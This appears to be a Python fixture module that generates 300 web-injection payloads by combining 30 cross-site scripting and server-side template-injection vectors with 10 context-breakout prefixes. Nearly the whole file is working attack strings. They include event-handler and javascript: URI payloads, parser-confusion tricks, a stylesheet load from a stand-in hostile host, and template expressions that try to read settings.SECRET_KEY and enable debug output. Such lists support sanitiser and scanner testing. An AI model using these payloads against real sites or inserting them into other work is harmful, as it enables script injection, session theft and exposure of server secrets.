"""Texts that want to become more than text: 30 ways in, in 10 dresses each."""

from __future__ import annotations

from itertools import product
from typing import Final

# What a template engine makes of SUM when it computes; no page has this number of its own.
SUM, ANSWER = "1337*7331", "9801547"
_SAY = "alert(1)"
_WAYS: Final = (
    f"<script>{_SAY}</script>",
    f"<ScRiPt/x>{_SAY}</sCrIpT>",
    f"<img src=x onerror={_SAY}>",
    f"<img src=x:x onerror='{_SAY}'>",
    f"<svg onload={_SAY}>",
    f"<svg><script>{_SAY}</script></svg>",
    f"<svg><animate onbegin={_SAY} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='javascript:{_SAY}'>",
    f"<body onload={_SAY}>",
    f"<iframe srcdoc='<script>{_SAY}</script>'>",
    f"<iframe src=javascript:{_SAY}>",
    f"<object data='javascript:{_SAY}'>",
    f"<embed src='javascript:{_SAY}'>",
    f"<details open ontoggle={_SAY}>",
    f"<video><source onerror={_SAY}>",
    f"<audio src=x onerror={_SAY}>",
    f"<input autofocus onfocus={_SAY}>",
    f"<select autofocus onfocus={_SAY}>",
    f"<a href='javascript:{_SAY}'>klik</a>",
    f"javascript:{_SAY}//",
    f"<form action='javascript:{_SAY}'><button>kirim</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_SAY}'>",
    f"<base href='javascript:{_SAY}//'>",
    "<link rel=stylesheet href=//jahat.example/x.css>",
    "<style>*{display:none}</style>",
    f"<noscript><p title='</noscript><img src=x onerror={_SAY}>'>",
    f"<template><script>{_SAY}</script></template>",
    f"{{{{{SUM}}}}}{{% debug %}}{{{{settings.SECRET_KEY}}}}",
    f"${{{SUM}}}#{{{SUM}}}<%={SUM}%>@({SUM})",
    f"<xmp><p title='</xmp><svg/onload={_SAY}>'>",
)
_DRESSES: Final = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></script>{}",
    "-->{}",
    "]]>{}",
    "\\{}",
)
PAYLOADS: Final = [dress.format(way) for dress, way in product(_DRESSES, _WAYS)]
